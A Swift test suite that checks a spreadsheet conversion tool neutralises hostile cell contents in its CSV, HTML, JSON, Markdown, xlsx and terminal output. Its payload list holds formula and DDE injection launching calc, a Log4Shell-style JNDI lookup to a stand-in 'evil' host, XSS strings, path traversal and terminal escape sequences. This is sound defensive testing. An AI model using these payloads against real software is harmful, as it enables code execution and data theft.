import Foundation
import Spreadsheet
import Testing

@Suite("Text stays text in every form")
struct InjectionTests {
  /// Texts that try to be something else.
  static let texts = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1",
    "－1+1",
    "＠x",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"x\")", "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "</td></table><script>1</script>",
    "&lt;script&gt;", "javascript:alert(1)", "]]>", "<!--", "-->", "${jndi:ldap://evil/a}",
    "[x](javascript:alert(1))", "![x](http://evil/p.png)", "|a|b|", "`code`", "# heading", "* item",
    "<http://evil>",
    "\u{1B}[31mred\u{1B}[0m", "\u{1B}]8;;http://evil\u{7}x\u{1B}]8;;\u{7}", "a\u{8}\u{8}b",
    "\u{202E}cod", "a\u{0}b".replacingOccurrences(of: "\u{0}", with: "_x0000_"),
    "{\"a\":1}", "\\u0041", "\\", "\"", "'", "''", "../../etc/passwd", "CON", "'=1+1", "_x0041_",
  ]

  private static func escaped(_ text: String) -> String {
    // Control characters go into XML as `_x001B_`, as the programs write them.
    text.unicodeScalars.map { scalar -> String in
      switch scalar {
      case "&": "&amp;"
      case "<": "&lt;"
      case ">": "&gt;"
      case "\"": "&quot;"
      case "\r", "\n", "\t": "&#\(scalar.value);"
      default:
        scalar.value < 0x20
          ? "_x00\(scalar.value < 16 ? "0" : "")\(String(scalar.value, radix: 16))_"
          : String(scalar)
      }
    }.joined().replacingOccurrences(of: "_x0041_", with: "_x005F_x0041_")
  }

  /// A workbook with each text in a cell of its own.
  static func workbook() -> HostileBook {
    let rows = texts.enumerated().map { index, text in
      "<row r=\"\(index + 1)\"><c r=\"A\(index + 1)\" t=\"inlineStr\"><is><t xml:space=\"preserve\">\(escaped(text))</t></is></c></row>"
    }
    return HostileBook(rows: rows.joined())
  }

  private func converted(_ words: String, _ name: String) throws -> String {
    let folder = try ScratchFolder()
    _ = try folder.write("a.xlsx", Self.workbook().bytes)
    let result = try Tool.shell(
      "\"$YILAN\" convert a.xlsx --quiet \(words) -o \(name) && cat \(name)", in: folder)
    #expect(result.status == 0, "\(result.errors)")
    return result.text
  }

  @Test("A workbook that is written has no formula, no link and no part but its own")
  func workbook() throws {
    let folder = try ScratchFolder()
    _ = try folder.write("a.xlsx", Self.workbook().bytes)
    let result = try Tool.shell("\"$YILAN\" convert a.xlsx --quiet -o b.xlsx", in: folder)
    #expect(result.status == 0, "\(result.errors)")
    let bytes = try Array(Data(contentsOf: URL(fileURLWithPath: folder.path("b.xlsx"))))
    let before = try AttackRunner.streamed(Self.workbook().bytes)
    let after = try AttackRunner.streamed(bytes)
    #expect(after.cells == before.cells)
    #expect(after.cells.allSatisfy { $0.contains(" string ") })
    #expect(after.cells.count == Self.texts.count)
  }

  @Test("CSV for Excel disarms what would run, and leaves the rest")
  func csv() throws {
    let text = try converted("--for-excel", "b.csv")
    let lines = text.components(separatedBy: "\r\n")
    for line in lines {
      let value = line.drop { $0 == "\"" || $0 == "\u{FEFF}" }
      let first = value.drop { $0 == " " }.first ?? "x"
      #expect(!"=+@＝＋＠".contains(first), "\(line.debugDescription)")
      #expect(
        !(value.first?.unicodeScalars.first.map { $0 == "\t" || $0 == "\r" } ?? false),
        "\(line.debugDescription)")
    }
    #expect(text.contains("'=cmd|' /C calc'!A0"))
  }

  @Test("HTML has no tag and no attribute out of a cell, and lets nothing run or load")
  func html() throws {
    let text = try converted("", "b.html")
    #expect(text.contains("default-src 'none'"))
    for word in [
      "<script>alert", "<img", "onerror=alert(1)>", "href=\"javascript", "href='",
      " onerror=alert(1)>",
    ] {
      #expect(!text.contains(word), "\(word)")
    }
    #expect(text.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
    #expect(text.contains("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"))
  }

  @Test("JSON stays JSON, and every text comes back")
  func json() throws {
    let text = try converted("--to cells", "b.jsonl")
    let values = try text.split(separator: "\n").map { line -> String in
      let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
      return object?["value"] as? String ?? ""
    }
    #expect(values.count == Self.texts.count)
    #expect(Set(values).isSuperset(of: Self.texts.filter { !$0.contains("_x") }))
    #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
  }

  @Test("Markdown has no tag, no link and no picture out of a cell")
  func markdown() throws {
    // What a backslash stands before is no mark.
    let text = try converted("", "b.md").replacingOccurrences(of: "\\[", with: "")
      .replacingOccurrences(of: "\\]", with: "").replacingOccurrences(of: "\\<", with: "")
    for word in ["<script", "<img", "](javascript", "](http", "<http"] {
      #expect(!text.contains(word), "\(word)")
    }
  }

  @Test("What goes to a terminal has no control character but line ends")
  func terminal() throws {
    let folder = try ScratchFolder()
    let book = Self.workbook().with {
      $0["xl/workbook.xml"] = HostileBook.workbook(
        "<sheet name=\"_x001B_[31m\u{202E}\" sheetId=\"1\" r:id=\"r1\"/>")
      $0["xl/worksheets/sheet1.xml"] = HostileBook.sheet(
        HostileBook.cell("<v>\u{9B}31m_x001B_]0;x_x0007_</v>", #"r="A1""#))
    }
    _ = try folder.write("a.xlsx", book.bytes)
    for words in [
      "inspect a.xlsx", "convert a.xlsx -o b.csv", "check a.xlsx", "diff a.xlsx a.xlsx",
      "normalize a.xlsx -o c.csv", "explain a.xlsx",
    ] {
      let result = try Tool.shell("\"$YILAN\" \(words)", in: folder)
      let all = result.errors + (words.hasPrefix("inspect") ? result.text : "")
      #expect(
        !all.unicodeScalars.contains {
          ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) || $0.value == 0x202E
        },
        "\(words): \(all.debugDescription)")
    }
  }
}
